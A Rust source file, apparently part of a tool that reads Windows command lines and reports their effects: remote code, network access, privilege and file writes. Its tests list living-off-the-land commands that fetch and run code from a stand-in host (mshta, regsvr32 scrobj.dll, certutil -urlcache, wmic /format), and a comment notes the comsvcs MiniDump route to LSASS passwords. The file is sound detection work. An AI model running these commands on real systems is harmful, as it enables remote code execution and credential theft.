//! Programs of Windows that run code, fetch it, or reach other machines.

use super::{ACCOUNTS, DISK, HIVES, host_of_share, lower, says, word_with};
use crate::reading::{ActKind, Language};
use crate::script::Word;
use crate::tools::call::{Call, Tool, joined, strict};
use crate::tools::words;

pub(crate) const TOOLS: &[Tool] = &[
    strict("certutil", "", certificates),
    strict("winrs", "", |call| {
        let host = word_with(call, "-r:").or_else(|| word_with(call, "/r:"));
        let host = host.or_else(|| word_with(call, "remote:"));
        let host = host.and_then(|host| {
            words::map(&host, |text| {
                text.split_once(':').map(|(_, host)| host.to_owned())
            })
        });
        call.network(host, true);
    }),
    strict("psexec psexec64 paexec", "", |call| {
        let host = call.args.first().and_then(host_of_share);
        if host.is_some() {
            call.network(host, true);
        }
    }),
    strict("plink pscp psftp", "", |call| {
        let host = call
            .args
            .iter()
            .find(|word| words::text(word).is_some_and(|text| text.contains('@')));
        let host = host.cloned();
        call.network(host, true);
    }),
    strict("runas", "", |call| {
        call.act(ActKind::Privilege);
        let mut lines = call.args.iter().filter(|word| !words::starts(word, "/"));
        if let Some(line) = lines.next_back().cloned() {
            call.code(Language::Cmd, line, Vec::new(), "runas");
        }
    }),
    strict(
        "gsudo",
        "-n,--new -w,--wait -d,--direct -s,--system -i,--integrity= -u,--user= --copyns --debug",
        |call| {
            call.act(ActKind::Privilege);
            let parts = call.owned_operands();
            if let Some(text) = joined(&parts) {
                call.code(Language::PowerShell, text, Vec::new(), "gsudo");
            }
        },
    ),
    strict(
        "wsl",
        "-d,--distribution= --distribution-id= -u,--user= --cd=cwd --shell-type= -e,--exec --system -l,--list -v,--verbose --shutdown --status \
         --update --version --help --install --set-default= --terminate= --unregister= --export= --import= --mount= --unmount= --manage=",
        |call| {
            let administers = [
                "--list",
                "--shutdown",
                "--status",
                "--update",
                "--version",
                "--help",
                "--install",
                "--set-default",
                "--terminate",
                "--unregister",
                "--export",
                "--import",
                "--mount",
                "--unmount",
                "--manage",
            ];
            // The disk of that system goes with it.
            if call.has("--unregister") {
                call.write_named(DISK);
            }
            if !administers.iter().any(|name| call.has(name)) {
                within_linux(call);
            }
        },
    ),
    strict(
        "mshta regsvr32 rundll32 msiexec installutil cscript wscript",
        "",
        |call| {
            let from_network = ["http://", "https://", "javascript:", "vbscript:"]
                .iter()
                .find_map(|start| word_with(call, start));
            if let Some(word) = from_network {
                remote(call, &word);
            }
            // The library whose `MiniDump` writes out what a process holds, the passwords of LSASS with it.
            if word_with(call, "comsvcs").is_some() {
                call.read_named(ACCOUNTS);
            }
        },
    ),
    strict("bitsadmin", "", |call| {
        let url = ["http://", "https://"]
            .iter()
            .find_map(|start| word_with(call, start));
        if let Some(url) = url {
            let uploads = says(call, &["/upload"]);
            call.network(Some(url), uploads);
            let file = call.line.operands.last().cloned();
            if let Some(file) = file.filter(|_| !uploads) {
                call.write(file);
            }
        }
    }),
];

/// `certutil -urlcache -f URL FILE` fetches, `-addstore Root FILE` makes the machine trust, `-encode A B` copies.
fn certificates(call: &mut Call<'_>) {
    let verb = |names: &[&str]| {
        let mut said = call.args.iter().filter_map(lower);
        said.any(|text| {
            text.strip_prefix(['-', '/'])
                .is_some_and(|verb| names.contains(&verb))
        })
    };
    let (fetches, trusts) = (
        verb(&["urlcache"]),
        verb(&["addstore", "delstore", "importpfx"]),
    );
    let (recodes, exports) = (
        verb(&["encode", "decode", "encodehex", "decodehex"]),
        verb(&["exportpfx"]),
    );
    let for_user = verb(&["user"]);
    let is_operand = |word: &&Word| lower(word).is_none_or(|text| !text.starts_with(['-', '/']));
    let operands: Vec<Word> = call.args.iter().filter(is_operand).cloned().collect();
    let (first, second) = (operands.first().cloned(), operands.get(1).cloned());
    if fetches {
        call.act(ActKind::Network {
            target: first.map(Into::into),
            method: Some("GET".into()),
            sends: false,
        });
        if let Some(file) = second {
            call.write(file);
        }
    } else if recodes {
        if let Some(file) = first {
            call.read(file);
        }
        if let Some(file) = second {
            call.write(file);
        }
    } else if trusts && !for_user {
        call.write_named(HIVES);
    } else if exports && let Some(file) = operands.last().cloned() {
        call.write(file);
    }
}

/// `wsl PROGRAM …`: the shell of the other system reads the words, unless the program is named by `-e`.
fn within_linux(call: &mut Call<'_>) {
    let parts = call.owned_operands();
    let is_operator = |word: &Word| {
        words::text(word)
            .is_some_and(|text| matches!(text, "|" | "||" | "&&" | ";" | ">" | ">>" | "<"))
    };
    let is_line = parts.len() == 1 || parts.iter().any(is_operator);
    if is_line && !call.has("--exec") {
        call.shell_words(&parts, "wsl");
    } else {
        call.argv(parts, false, "wsl");
    }
}

/// Code runs that a word of the line names.
pub(super) fn remote(call: &mut Call<'_>, word: &Word) {
    let url = words::map(word, |text| {
        text.find("http")
            .and_then(|at| text.get(at..).map(str::to_owned))
    });
    call.act(ActKind::RemoteCode {
        url: url.map(Into::into),
    });
}

#[cfg(test)]
mod tests {
    use crate::tools::render::effects;

    fn check(command: &str, expected: &str) {
        assert_eq!(effects(command), expected, "{command}");
    }

    #[test]
    fn code_from_the_network() {
        let code = "remote code https://x.example/a";
        check("mshta https://x.example/a", code);
        check("regsvr32 /s /n /u /i:https://x.example/a scrobj.dll", code);
        check("msiexec /q /i https://x.example/a", code);
        check("msiexec /i setup.msi", "");
        check("wmic os get /format:https://x.example/a", code);
    }

    #[test]
    fn certificates_and_what_else_certutil_does() {
        check(
            "certutil -urlcache -f https://x.example/a a.exe",
            "get GET https://x.example/a; write a.exe",
        );
        check("certutil -encode a b", "read a; write b");
        check(
            "certutil -addstore -f Root a.cer",
            r"write C:\Windows\System32\config",
        );
        check("certutil -user -addstore Root a.cer", "");
        check("certutil -hashfile a SHA256", "");
    }

    #[test]
    fn other_systems_and_machines() {
        check("winrs -r:srv hostname", "send srv");
        check("plink -ssh me@srv ls", "send me@srv");
        check("wsl ls '|' sh", "wsl> Shell `ls | sh`");
        check("wsl -d Debian -e ls -l", "wsl> ls -l");
        check("wsl --list -v", "");
        check("wsl --install -d Debian", "");
        check("wsl --export Debian x.tar", "");
        check("wsl --unregister Debian", r"write \\.\PhysicalDrive0");
        check(
            "runas /user:x 'cmd /c del y'",
            "privilege; runas> Cmd `cmd /c del y`",
        );
    }
}
